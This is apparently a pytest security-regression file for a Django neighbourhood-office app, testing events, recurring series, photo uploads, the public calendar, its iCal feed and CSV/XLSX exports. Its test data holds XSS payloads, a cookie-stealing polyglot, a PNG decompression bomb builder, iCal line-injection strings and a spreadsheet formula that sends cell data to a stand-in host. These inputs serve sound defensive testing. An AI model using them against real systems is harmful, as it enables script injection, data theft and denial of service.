"""Attacks on what issue #20 added (first part): the office's events, their counts, photos and series, the public
calendar and its feed. One test per attack, named for what it shows.

The holes found, fixed where the rule lives and kept here: a photo was kept as uploaded, with the place it was
taken (EXIF's GPS), the camera's notes and whatever hid behind the image, under a name of another type
(``activation.services.check_photo`` now writes it again from its pixels); a series reached back to 1990 and made
a thousand events at once; a series at night failed on the day the clocks go forward; a change of a series made
again the event of a day that had been moved or deleted on its own; an edit of one event wrote a stale time back
over a change of its series and brought back an event deleted meanwhile; a title or place kept its line breaks; a
count passed the form's bound through the service; the admin moved a series into another area without its events;
an event a series change removed left its photo's file behind; a long word pushed the public calendar wider than
a phone (``static/css/quartier.css``). What held is kept in compact tests beside them.

The surveys (second part): a text of NUL bytes only was a server error (the database's check); a NUL byte in a
survey's or an invitation's key was one too; a survey whose closing day had passed could be opened, open for the
office and closed for residents; an open survey's last question could be deleted, leaving a form nobody could
send; "1.200" on a German page was kept as 1.2 (and "1,200" on an English one); the answer limit threw away what
a resident had typed.

The results (third part): a long survey title or answer text made the concern form and the free texts' list scroll
sideways on a phone; an Arabic or Turkish free text was shown as German text, its punctuation out of place (now
marked with its questionnaire's language and ``dir="auto"``). What held: forged filters and pages, unknown download
formats, formulas in the downloads, script in the texts, the concern's refusals and a self-evaluation's concern
naming no organisation, the reading roles, constant queries from no answer to five thousand."""

from __future__ import annotations

import csv
import datetime
import io
import threading
import zlib
from collections.abc import Callable

import icalendar
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from PIL import Image
from playwright.sync_api import expect

from activation.models import Event, Frequency, Photo, Series, TargetGroupCount
from activation.services import (
    event_create,
    event_delete,
    event_record_counts,
    event_update,
    photo_add,
    series_create,
    series_update,
)
from actors.models import TargetGroup
from demo.factories import (
    EventFactory,
    FundFactory,
    MeasureFactory,
    OrganisationFactory,
    PersonFactory,
    UserFactory,
    VersionFactory,
    user_with_role,
)
from fonds.models import Application
from quartier.models import Quartier, Role, User
from tests.activation.test_services import image_bytes


def _series_data(first_day: datetime.date, last_day: datetime.date, **more: object) -> dict[str, object]:
    return {
        "title": "Sprechstunde",
        "kind": "sprechstunde",
        "public": True,
        "frequency": Frequency.WEEKLY,
        "first_day": first_day,
        "last_day": last_day,
        "start_time": datetime.time(10),
        "end_time": datetime.time(12),
        **more,
    }


def _local(moment: datetime.datetime) -> datetime.datetime:
    return timezone.localtime(moment)


# --- (1) roles and areas ------------------------------------------------------------------------------------------


def _writes(area: Quartier, event: Event, series: Series) -> list[tuple[str, dict[str, object]]]:
    base = f"/gebiet/{area.slug}/veranstaltungen/"
    return [
        (f"{base}neu/", {"title": "Fremd", "kind": "aktion", "starts_at": "2030-01-01T10:00",
                         "ends_at": "2030-01-01T11:00"}),
        (f"{base}{event.pk}/bearbeiten/", {"title": "Überschrieben", "kind": "aktion"}),
        (f"{base}{event.pk}/teilnehmende/", {"participants": "99", "note": "gefälscht"}),
        (f"{base}{event.pk}/fotos/neu/", {"file": SimpleUploadedFile("a.png", image_bytes())}),
        (f"{base}reihen/neu/", {"title": "Fremd"}),
        (f"{base}reihen/{series.pk}/", {"title": "Überschrieben"}),
        (f"{base}reihen/{series.pk}/loeschen/", {}),
    ]  # fmt: skip


def test_readers_jurors_outsiders_and_anonymous_change_nothing(
    client: Client,
    area: Quartier,
    role_users: dict[str, User],
    outsider: User,
    now: datetime.datetime,
    today: datetime.date,
) -> None:
    event = EventFactory(area=area, title="Hoffest", starts_at=now - datetime.timedelta(hours=3))
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=1), today + datetime.timedelta(days=30)), by=None
    )
    events_before = set(Event.objects.values_list("pk", "title", "participants", "note"))
    juror = UserFactory(username="juror")  # a committee member only: no role in the area
    expected = {"planung": 403, "koordination": 403, "juror": 404, "outsider": 404, "anonymous": 302}
    users: dict[str, User | None] = {
        "planung": role_users["planung"],
        "koordination": role_users["koordination"],
        "juror": juror,
        "outsider": outsider,
        "anonymous": None,
    }
    for who, user in users.items():
        client.logout()
        if user is not None:
            client.force_login(user)
        for url, data in _writes(area, event, series):
            assert client.post(url, data).status_code == expected[who], (who, url)
            assert client.get(url).status_code == expected[who], (who, url)
    assert set(Event.objects.values_list("pk", "title", "participants", "note")) == events_before
    assert Series.objects.get().title == "Sprechstunde" and not Photo.objects.exists()


def test_koordination_reads_an_event_without_its_persons(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    person = PersonFactory(area=area, first_name="Zeynep", last_name="Kaya")
    event = event_create(
        area=area,
        data={"title": "Hoffest", "kind": "aktion", "starts_at": now, "ends_at": now + datetime.timedelta(hours=1),
              "persons": [person]},
        by=None,
    )  # fmt: skip
    client.force_login(role_users["koordination"])
    page = client.get(f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/").content.decode()
    assert "Hoffest" in page and "Kaya" not in page and "Zeynep" not in page
    export = client.get(f"/gebiet/{area.slug}/veranstaltungen/?export=csv").content.decode("utf-8-sig")
    assert "Hoffest" in export and "Kaya" not in export


def test_forged_ids_of_another_area_in_the_event_form_are_refused(
    client: Client, area: Quartier, other_area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    fund = FundFactory(area=other_area)
    foreign = {
        "organisations": OrganisationFactory(area=other_area).pk,
        "persons": PersonFactory(area=other_area).pk,
        "measures": MeasureFactory(version=VersionFactory(area=other_area)).pk,
        "applications": Application.objects.create(
            area=other_area, fund=fund, title="Nordfest", status="eingereicht"
        ).pk,
    }
    event = EventFactory(area=area, title="Hoffest")
    client.force_login(role_users["gwa"])
    start = (now + datetime.timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    end = (now + datetime.timedelta(days=2, hours=1)).strftime("%Y-%m-%dT%H:%M")
    base = f"/gebiet/{area.slug}/veranstaltungen/"
    for field, pk in foreign.items():
        data = {"title": "Hoffest", "kind": "aktion", "starts_at": start, "ends_at": end, field: [pk]}
        for url in (f"{base}neu/", f"{base}{event.pk}/bearbeiten/"):
            response = client.post(url, data)
            assert response.status_code == 200, (field, url)
            assert "Bitte eine gültige Auswahl treffen" in response.content.decode(), field
    assert Event.objects.count() == 1
    assert all(not getattr(event, field).exists() for field in foreign)


def test_another_areas_series_is_not_found_and_not_deleted(
    client: Client, area: Quartier, other_area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    series = series_create(
        area=other_area,
        data=_series_data(today + datetime.timedelta(days=1), today + datetime.timedelta(days=30)),
        by=None,
    )
    count = series.events.count()
    client.force_login(role_users["gwa"])
    base = f"/gebiet/{area.slug}/veranstaltungen/reihen/{series.pk}/"
    assert client.get(base).status_code == 404
    assert client.post(base, {"title": "Übernommen"}).status_code == 404
    assert client.post(f"{base}loeschen/").status_code == 404
    series.refresh_from_db()
    assert series.title == "Sprechstunde" and series.events.count() == count


def test_the_admin_cannot_move_an_event_or_a_series_into_another_area(
    client: Client, area: Quartier, other_area: Quartier, superuser: User, today: datetime.date
) -> None:
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=1), today + datetime.timedelta(days=15)), by=None
    )
    event = series.events.order_by("starts_at").first()
    assert event is not None
    client.force_login(superuser)
    page = client.get(f"/admin/activation/event/{event.pk}/change/").content.decode()
    assert 'name="area"' not in page  # shown, not offered
    series_page = client.get(f"/admin/activation/series/{series.pk}/change/").content.decode()
    assert 'name="area"' not in series_page
    forged = {"area": other_area.pk, "title": "Verschoben", "kind": "aktion"}
    client.post(f"/admin/activation/series/{series.pk}/change/", forged)
    series.refresh_from_db()
    assert series.area_id == area.pk
    assert set(series.events.values_list("area_id", flat=True)) == {area.pk}


def test_the_admin_refuses_a_foreign_organisation_on_an_event(
    client: Client, area: Quartier, other_area: Quartier, superuser: User, now: datetime.datetime
) -> None:
    foreign = OrganisationFactory(area=other_area)
    client.force_login(superuser)
    response = client.post(
        "/admin/activation/event/add/",
        {
            "area": area.pk,
            "title": "Hoffest",
            "kind": "aktion",
            "starts_at_0": timezone.localtime(now).strftime("%d.%m.%Y"),
            "starts_at_1": "10:00",
            "ends_at_0": timezone.localtime(now).strftime("%d.%m.%Y"),
            "ends_at_1": "11:00",
            "organisations": str(foreign.pk),
        },
    )
    assert response.status_code == 200
    assert not Event.objects.exists()


# --- (2) counts ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["-1", "abc", "1.5", "1e3", "99999999999", "0x10", " 5 5"])
def test_malformed_counts_are_refused_in_german_and_nothing_is_saved(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime, value: str
) -> None:
    event = EventFactory(area=area, starts_at=now - datetime.timedelta(hours=3))
    group = TargetGroup.objects.first()
    assert group is not None
    client.force_login(role_users["gwa"])
    url = f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/teilnehmende/"
    for field in ("participants", "under_18", f"group_{group.pk}"):
        data = {"participants": "10", "note": "Gut besucht", field: value}
        response = client.post(url, data)
        assert response.status_code == 200
        html = response.content.decode()
        assert "Bitte korrigieren Sie die markierten Felder." in html
        assert "Gut besucht" in html  # the note typed is kept
    event.refresh_from_db()
    assert event.participants is None and event.note == "" and not TargetGroupCount.objects.exists()


def test_counts_of_a_coming_event_are_refused_on_the_page(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    event = EventFactory(area=area, starts_at=now + datetime.timedelta(hours=2))
    client.force_login(role_users["gwa"])
    response = client.post(
        f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/teilnehmende/", {"participants": "12", "note": "vorab"}
    )
    assert response.status_code == 200
    assert "erst erfasst werden, wenn die Veranstaltung begonnen hat" in response.content.decode()
    event.refresh_from_db()
    assert event.participants is None and event.note == ""


def test_a_forged_target_group_field_is_ignored(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    event = EventFactory(area=area, starts_at=now - datetime.timedelta(hours=3))
    client.force_login(role_users["gwa"])
    response = client.post(
        f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/teilnehmende/",
        {"participants": "5", "group_999999": "50", "group_abc": "1"},
    )
    assert response.status_code == 302
    assert not TargetGroupCount.objects.exists()


def test_a_huge_count_through_the_service_is_refused(area: Quartier, now: datetime.datetime) -> None:
    event = EventFactory(area=area, starts_at=now - datetime.timedelta(hours=3))
    group = TargetGroup.objects.get(name="Kinder")
    for participants, groups in ((2**31, {}), (10**7, {group: 10**7}), (True, {})):
        with pytest.raises(ValidationError):
            event_record_counts(event=event, participants=participants, ages={}, groups=groups, note="", by=None)  # type: ignore[arg-type]
    event.refresh_from_db()
    assert event.participants is None and not TargetGroupCount.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_two_recordings_of_counts_at_once_leave_one_of_them_whole(area: Quartier, now: datetime.datetime) -> None:
    event = EventFactory(area=area, starts_at=now - datetime.timedelta(hours=3))
    kids, seniors = TargetGroup.objects.get(name="Kinder"), TargetGroup.objects.get(name="Senior*innen")
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def record(total: int, groups: dict[TargetGroup, int | None]) -> None:
        try:
            barrier.wait()
            event_record_counts(event=event, participants=total, ages={}, groups=groups, note=str(total), by=None)
        except BaseException as error:  # reported below
            errors.append(error)
        finally:
            connection.close()

    threads = [
        threading.Thread(target=record, args=(10, {kids: 6, seniors: 4})),
        threading.Thread(target=record, args=(20, {kids: 20})),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    event.refresh_from_db()
    groups = dict(event.group_counts.values_list("target_group__name", "count"))
    assert (event.participants, event.note, groups) in [
        (10, "10", {"Kinder": 6, "Senior*innen": 4}),
        (20, "20", {"Kinder": 20}),
    ]


# --- (3) series ---------------------------------------------------------------------------------------------------


def test_a_series_reaching_back_years_is_refused_not_made_with_hundreds_of_events(
    area: Quartier, today: datetime.date
) -> None:
    for first in (datetime.date(1990, 1, 2), today - datetime.timedelta(days=3650)):
        with pytest.raises(ValidationError) as refused:
            series_create(area=area, data=_series_data(first, today + datetime.timedelta(days=30)), by=None)
        assert "last_day" in refused.value.error_dict
    assert not Series.objects.exists() and not Event.objects.exists()
    series = series_create(
        area=area, data=_series_data(today - datetime.timedelta(days=30), today + datetime.timedelta(days=300)), by=None
    )
    with pytest.raises(ValidationError):
        series_update(series=series, data={"first_day": datetime.date(1990, 1, 2)}, by=None)
    series.refresh_from_db()
    assert series.first_day == today - datetime.timedelta(days=30)


def test_absurd_series_are_refused_on_the_form_in_german_with_the_input_kept(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    client.force_login(role_users["gwa"])
    url = f"/gebiet/{area.slug}/veranstaltungen/reihen/neu/"
    base = {"title": "Nachbarschaftscafé", "kind": "sprechstunde", "frequency": "weekly", "start_time": "10:00",
            "end_time": "12:00", "place": "Laden Uferstraße 3"}  # fmt: skip
    cases = {
        "Der letzte Tag kann nicht vor dem ersten Tag liegen.": {
            "first_day": today + datetime.timedelta(days=10), "last_day": today},
        "Das Ende muss nach dem Beginn liegen.": {
            "first_day": today, "last_day": today + datetime.timedelta(days=30), "end_time": "09:00"},
        "höchstens ein Jahr": {"first_day": today, "last_day": today + datetime.timedelta(days=3650)},
        "im Voraus": {
            "first_day": today + datetime.timedelta(days=300), "last_day": today + datetime.timedelta(days=400)},
        "Bitte geben Sie ein Datum zwischen": {"first_day": "0001-01-01", "last_day": "9999-12-31"},
        "Bitte eine gültige Auswahl treffen": {
            "first_day": today, "last_day": today + datetime.timedelta(days=30), "frequency": "daily"},
    }  # fmt: skip
    for message, more in cases.items():
        response = client.post(url, {**base, **more})
        html = response.content.decode()
        assert response.status_code == 200, message
        assert message in html, message
        assert "Nachbarschaftscafé" in html and "Laden Uferstraße 3" in html
    assert not Series.objects.exists() and not Event.objects.exists()


def test_a_monthly_series_on_the_31st_skips_the_short_months(area: Quartier) -> None:
    series = series_create(
        area=area,
        data=_series_data(datetime.date(2030, 1, 31), datetime.date(2030, 12, 31), frequency=Frequency.MONTHLY),
        by=None,
        today=datetime.date(2030, 1, 1),
    )
    days = [_local(event.starts_at).date() for event in series.events.order_by("starts_at")]
    assert [day.month for day in days] == [1, 3, 5, 7, 8, 10, 12] and all(day.day == 31 for day in days)


def test_a_series_at_night_across_the_change_to_summer_time_is_made(area: Quartier) -> None:
    # 2030-03-31 is the last Sunday of March: 02:00 to 03:00 does not exist that night in Berlin.
    data = _series_data(
        datetime.date(2030, 3, 24),
        datetime.date(2030, 4, 7),
        start_time=datetime.time(2),
        end_time=datetime.time(3),
        title="Nachtwanderung",
    )
    series = series_create(area=area, data=data, by=None, today=datetime.date(2030, 3, 1))
    events = list(series.events.order_by("starts_at"))
    assert len(events) == 3
    assert all(event.ends_at - event.starts_at == datetime.timedelta(hours=1) for event in events)
    assert [_local(event.starts_at).day for event in events] == [24, 31, 7]


def test_a_series_across_the_change_to_winter_time_keeps_its_local_hours(area: Quartier) -> None:
    series = series_create(
        area=area,
        data=_series_data(datetime.date(2030, 10, 20), datetime.date(2030, 11, 3)),
        by=None,
        today=datetime.date(2030, 10, 1),
    )
    hours = [(_local(e.starts_at).hour, _local(e.ends_at).hour) for e in series.events.order_by("starts_at")]
    assert hours == [(10, 12)] * 3


def test_a_series_event_moved_to_another_day_is_not_doubled_when_the_series_changes(
    area: Quartier, today: datetime.date
) -> None:
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=7), today + datetime.timedelta(days=35)), by=None
    )
    first = series.events.order_by("starts_at").first()
    assert first is not None
    original_day = _local(first.starts_at).date()
    day = datetime.timedelta(days=1)
    event_update(event=first, data={"starts_at": first.starts_at + day, "ends_at": first.ends_at + day}, by=None)
    count = series.events.count()
    series_update(series=series, data={"title": "Offene Sprechstunde"}, by=None)
    days = [_local(event.starts_at).date() for event in series.events.all()]
    assert series.events.count() == count
    assert original_day not in days and original_day + datetime.timedelta(days=1) in days


def test_a_series_event_deleted_is_not_made_again_when_the_series_changes(area: Quartier, today: datetime.date) -> None:
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=7), today + datetime.timedelta(days=35)), by=None
    )
    cancelled = series.events.order_by("starts_at")[1]
    cancelled_day = _local(cancelled.starts_at).date()
    event_delete(event=cancelled, by=None)
    series_update(series=series, data={"place": "Gemeinschaftsraum"}, by=None)
    assert cancelled_day not in {_local(event.starts_at).date() for event in series.events.all()}
    later = series_update(series=series, data={"last_day": today + datetime.timedelta(days=49)}, by=None)
    assert later.events.count() == 6  # the two new weeks are added, the cancelled day stays cancelled


def test_an_event_edit_does_not_write_back_a_series_change_made_meanwhile(area: Quartier, today: datetime.date) -> None:
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=7), today + datetime.timedelta(days=21)), by=None
    )
    stale = series.events.order_by("starts_at").first()  # read by the event's form before the series changes
    assert stale is not None
    series_update(series=series, data={"start_time": datetime.time(14), "end_time": datetime.time(16)}, by=None)
    event_update(event=stale, data={"place": "Hof"}, by=None)
    stale.refresh_from_db()
    assert (stale.place, _local(stale.starts_at).hour, _local(stale.ends_at).hour) == ("Hof", 14, 16)


def test_an_event_deleted_meanwhile_is_not_brought_back_by_an_edit(area: Quartier, now: datetime.datetime) -> None:
    event = EventFactory(area=area, starts_at=now + datetime.timedelta(days=2))
    stale = Event.objects.get(pk=event.pk)
    event_delete(event=event, by=None)
    with pytest.raises(ValidationError):
        event_update(event=stale, data={"place": "Hof"}, by=None)
    assert not Event.objects.exists()


def test_deleting_a_series_keeps_its_past_events_with_their_counts(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, now: datetime.datetime
) -> None:
    series = series_create(
        area=area, data=_series_data(today - datetime.timedelta(days=21), today + datetime.timedelta(days=21)), by=None
    )
    past = series.events.filter(starts_at__lte=now).order_by("starts_at").first()
    assert past is not None
    event_record_counts(event=past, participants=7, ages={}, groups={}, note="gut", by=None)
    client.force_login(role_users["gwa"])
    url = f"/gebiet/{area.slug}/veranstaltungen/reihen/{series.pk}/loeschen/"
    assert client.get(url).status_code == 200 and Series.objects.exists()  # a GET asks, never deletes
    assert client.post(url).status_code == 302
    past.refresh_from_db()
    assert past.participants == 7 and past.series_id is None
    assert not Event.objects.filter(starts_at__gt=now).exists()


# --- (4) photos ---------------------------------------------------------------------------------------------------


def _add(event: Event, name: str, content: bytes, *, consent: bool = True) -> Photo:
    return photo_add(
        event=event,
        upload=SimpleUploadedFile(name, content),
        caption="",
        consent=consent,
        consent_how="schriftlich" if consent else "",
        by=None,
    )


def _jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned: the camera was held upright
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 0.0)})
    buffer = io.BytesIO()
    Image.new("RGB", (16, 8), (200, 120, 40)).save(
        buffer, format="JPEG", exif=exif.tobytes(), comment=b"Kamera von Zeynep Kaya"
    )
    return buffer.getvalue()


def test_a_photo_loses_its_gps_position_and_camera_notes_before_it_is_kept(
    client: Client, area: Quartier, now: datetime.datetime
) -> None:
    event = EventFactory(area=area, public=True, starts_at=now - datetime.timedelta(days=2))
    photo = _add(event, "fest.jpg", _jpeg_with_gps())
    served = b"".join(client.get(f"/oeffentlich/{area.slug}/veranstaltungen/fotos/{photo.pk}/").streaming_content)  # type: ignore[attr-defined]
    with Image.open(io.BytesIO(served)) as image:
        assert image.format == "JPEG"
        assert not image.getexif().get_ifd(0x8825) and "exif" not in image.info and "comment" not in image.info
        assert image.size == (8, 16)  # turned upright as the camera said, before its note went
    assert b"Zeynep" not in served
    assert photo.size == len(served)


def test_a_photo_whose_name_names_another_type_is_kept_under_the_name_of_its_type(area: Quartier) -> None:
    event = EventFactory(area=area)
    for name, expected in (("fest.jpg", "fest.png"), ("seite.html", "seite.png"), ("bild.svg", "bild.png"),
                           ("FEST.PNG", "FEST.PNG"), ("ohne", "ohne.png")):  # fmt: skip
        photo = _add(event, name, image_bytes("PNG"))
        assert (photo.name, photo.content_type) == (expected, "image/png")
        assert photo.file.name.endswith(expected)


def test_a_polyglot_keeps_only_its_image(area: Quartier) -> None:
    event = EventFactory(area=area)
    script = b"<html><script>alert(document.cookie)</script></html>"
    photo = _add(event, "bild.png", image_bytes("PNG") + script)
    assert script not in photo.file.read()


def _png_bomb(width: int, height: int) -> bytes:
    """A PNG of ``width`` × ``height`` black pixels, a few kilobytes compressed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])  # 8-bit grey
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    data = b"".join(compressor.compress(row) for _ in range(min(height, 50))) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bombe.png", _png_bomb(30_000, 30_000)),
        ("bild.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("bild.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("bild.html", b"<html><script>alert(1)</script></html>"),
        ("kopf.jpg", image_bytes("JPEG")[:60]),
    ],
)
def test_a_bomb_an_svg_or_a_broken_image_is_refused(area: Quartier, name: str, content: bytes) -> None:
    event = EventFactory(area=area)
    with pytest.raises(ValidationError) as refused:
        _add(event, name, content)
    assert "ist kein Foto" in refused.value.messages[0] or "is not a photo" in refused.value.messages[0]
    assert not Photo.objects.exists()


def test_a_photo_refused_on_the_form_keeps_the_caption_and_says_why(
    client: Client, area: Quartier, role_users: dict[str, User]
) -> None:
    event = EventFactory(area=area)
    client.force_login(role_users["gwa"])
    response = client.post(
        f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/fotos/neu/",
        {"file": SimpleUploadedFile("bombe.png", _png_bomb(30_000, 30_000)), "caption": "Am Grill", "consent": "on",
         "consent_how": "schriftlich"},
    )  # fmt: skip
    html = response.content.decode()
    assert response.status_code == 200 and "ist kein Foto" in html and "Am Grill" in html
    assert not Photo.objects.exists()


# --- (5) the public calendar, the feed and injection ---------------------------------------------------------------


def test_script_and_line_breaks_in_texts_stay_text_on_the_pages_and_in_the_feed(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    script = "<script>alert(1)</script>"
    event = event_create(
        area=area,
        data={
            "title": f"Fest{script}\r\nEND:VEVENT\rBEGIN:VEVENT\nSUMMARY:Gefälscht",
            "kind": "aktion",
            "starts_at": now + datetime.timedelta(days=2),
            "ends_at": now + datetime.timedelta(days=2, hours=1),
            "place": f"Hof\r\nLOCATION:anderswo{script}",
            "description": f"Zeile 1\r\nATTENDEE:mailto:x@example.org\rZeile 3 {script}",
            "public": True,
        },
        by=None,
    )
    assert "\n" not in event.title and "\r" not in event.title and "\n" not in event.place
    client.force_login(role_users["gwa"])
    for url in (f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/", f"/gebiet/{area.slug}/veranstaltungen/",
                f"/oeffentlich/{area.slug}/veranstaltungen/"):  # fmt: skip
        html = client.get(url).content.decode()
        assert script not in html and "&lt;script&gt;" in html, url
    feed = client.get(f"/oeffentlich/{area.slug}/veranstaltungen.ics").content
    calendar = icalendar.Calendar.from_ical(feed)
    entries = calendar.walk("VEVENT")
    assert len(entries) == 1
    assert str(entries[0]["SUMMARY"]) == event.title
    assert "ATTENDEE" not in entries[0] and str(entries[0]["LOCATION"]) == event.place
    assert all(line.startswith((" ", "\t")) or ":" in line for line in feed.decode().split("\r\n") if line)
    assert b"\r" not in feed.replace(b"\r\n", b"")


def test_the_feed_leaks_no_private_event_person_note_or_count(
    client: Client, area: Quartier, other_area: Quartier, now: datetime.datetime
) -> None:
    person = PersonFactory(area=area, first_name="Zeynep", last_name="Kaya")
    shown = event_create(
        area=area,
        data={"title": "Hoffest", "kind": "aktion", "starts_at": now - datetime.timedelta(days=2),
              "ends_at": now - datetime.timedelta(days=2) + datetime.timedelta(hours=2), "public": True,
              "persons": [person]},
        by=None,
    )  # fmt: skip
    event_record_counts(event=shown, participants=987_654, ages={}, groups={}, note="Streit am Grill", by=None)
    EventFactory(area=area, title="Teamsitzung", public=False, starts_at=now + datetime.timedelta(days=1))
    EventFactory(area=other_area, title="Nordfest", public=True, starts_at=now + datetime.timedelta(days=1))
    EventFactory(area=area, title="Altes Fest", public=True, starts_at=now - datetime.timedelta(days=90))
    for url in (f"/oeffentlich/{area.slug}/veranstaltungen.ics", f"/oeffentlich/{area.slug}/veranstaltungen/"):
        text = client.get(url).content.decode()
        assert "Hoffest" in text
        for secret in ("Kaya", "Zeynep", "987654", "987.654", "Streit", "Teamsitzung", "Nordfest", "Altes Fest"):
            assert secret not in text, (url, secret)
    assert client.get("/oeffentlich/gibt-es-nicht/veranstaltungen.ics").status_code == 404


def test_a_photo_without_consent_or_of_a_private_or_foreign_event_is_never_public(
    client: Client, area: Quartier, other_area: Quartier, now: datetime.datetime
) -> None:
    past = now - datetime.timedelta(days=2)
    public = EventFactory(area=area, public=True, starts_at=past)
    private = EventFactory(area=area, public=False, starts_at=past)
    foreign = EventFactory(area=other_area, public=True, starts_at=past)
    without = _add(public, "ohne.png", image_bytes(), consent=False)
    of_private = _add(private, "intern.png", image_bytes())
    of_foreign = _add(foreign, "nord.png", image_bytes())
    page = client.get(f"/oeffentlich/{area.slug}/veranstaltungen/").content.decode()
    for photo in (without, of_private, of_foreign):
        assert f"/fotos/{photo.pk}/" not in page
        assert client.get(f"/oeffentlich/{area.slug}/veranstaltungen/fotos/{photo.pk}/").status_code == 404
    assert client.get(f"/oeffentlich/{other_area.slug}/veranstaltungen/fotos/{of_foreign.pk}/").status_code == 200
    public.public = False
    public.save()
    consented = _add(public, "mit.png", image_bytes())
    assert client.get(f"/oeffentlich/{area.slug}/veranstaltungen/fotos/{consented.pk}/").status_code == 404


def test_very_long_texts_are_refused_on_the_form_with_the_input_kept(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    client.force_login(role_users["gwa"])
    start = (now + datetime.timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    end = (now + datetime.timedelta(days=2, hours=1)).strftime("%Y-%m-%dT%H:%M")
    response = client.post(
        f"/gebiet/{area.slug}/veranstaltungen/neu/",
        {"title": "T" * 5000, "kind": "aktion", "starts_at": start, "ends_at": end, "place": "Hof am Kanal"},
    )
    html = response.content.decode()
    assert response.status_code == 200 and "200 Zeichen" in html and "Hof am Kanal" in html
    assert not Event.objects.exists()


# --- (6) the list's filters and the export ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "date_from=99999-01-01",
        "date_from=0001-01-01&date_to=9999-12-31",
        "date_to=2025-02-30",
        "kind=erfunden",
        "kind=aktion&kind=workshop",
        "public=vielleicht",
        "field_of_action=abc",
        "field_of_action=999999",
        "q=%00",
        "q=" + "x" * 5000,
        "page=-1",
        "page=99999999999999999999",
        "export=pdf",
    ],
)
def test_malformed_filters_answer_a_page_not_a_server_error(
    client: Client, area: Quartier, other_area: Quartier, role_users: dict[str, User], query: str
) -> None:
    EventFactory(area=other_area, title="Nordfest")
    client.force_login(role_users["koordination"])
    response = client.get(f"/gebiet/{area.slug}/veranstaltungen/?{query}")
    assert response.status_code in {200, 400}
    assert "Nordfest" not in response.content.decode()


def test_a_title_starting_with_a_formula_is_text_in_the_downloads(
    client: Client, area: Quartier, role_users: dict[str, User], now: datetime.datetime
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
    EventFactory(area=area, title=formula, place="+1+1", starts_at=now)
    client.force_login(role_users["planung"])
    raw = client.get(f"/gebiet/{area.slug}/veranstaltungen/?export=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert rows[1][1] == "'" + formula and rows[1][6] == "'+1+1"
    xlsx = client.get(f"/gebiet/{area.slug}/veranstaltungen/?export=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and not str(cell.value).startswith("=")


# --- (7) files left behind, and a confused person on a phone --------------------------------------------------------


def test_an_event_a_series_change_removes_takes_its_photo_file_along(
    area: Quartier, today: datetime.date, django_capture_on_commit_callbacks: object
) -> None:
    series = series_create(
        area=area, data=_series_data(today + datetime.timedelta(days=7), today + datetime.timedelta(days=21)), by=None
    )
    last = series.events.order_by("starts_at").last()
    assert last is not None
    photo = _add(last, "plakat.png", image_bytes(), consent=False)
    storage, name = photo.file.storage, photo.file.name
    with django_capture_on_commit_callbacks(execute=True):  # type: ignore[operator]
        series_update(series=series, data={"last_day": today + datetime.timedelta(days=14)}, by=None)
    assert not Photo.objects.exists() and not storage.exists(name)


@pytest.mark.browser
def test_long_unbroken_texts_fit_a_phone_and_a_refused_series_keeps_what_was_typed(
    phone_page, visit, navigates, browser_login, area: Quartier, now: datetime.datetime, today: datetime.date
) -> None:
    page = phone_page
    office = user_with_role(area, Role.GEMEINWESENARBEIT, username="gwa-user")
    long = "Donaudampfschifffahrtsgesellschaftskapitän" * 4
    event = EventFactory(
        area=area, title=long[:200], place=long[:200], description=f"https://example.org/{long}", public=True,
        starts_at=now + datetime.timedelta(days=2),
    )  # fmt: skip
    for url in (f"/oeffentlich/{area.slug}/veranstaltungen/",):
        visit(page, url)
        assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"], url
    browser_login(page, office)
